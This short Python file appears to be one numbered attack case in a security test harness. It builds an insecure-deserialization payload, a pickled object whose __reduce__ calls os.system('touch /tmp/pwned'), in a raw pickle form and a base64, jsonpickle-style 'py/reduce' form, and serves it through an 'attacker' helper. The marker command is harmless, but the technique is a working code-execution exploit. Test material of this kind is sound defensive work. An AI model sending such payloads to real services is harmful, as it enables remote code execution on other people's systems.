"""Attack 47: a pickle that would run a command where it is read."""

import base64
import os
import pickle

from attacker import serve


class Command:
    def __reduce__(self):
        return os.system, ("touch /tmp/pwned",)


LINES = (
    pickle.dumps(Command(), 0).replace(b"\n", b"\\n"),
    b'{"py/reduce":"%s"}' % base64.b64encode(pickle.dumps(Command())),
)

serve(lambda message: LINES[message["view"]["seat"]])
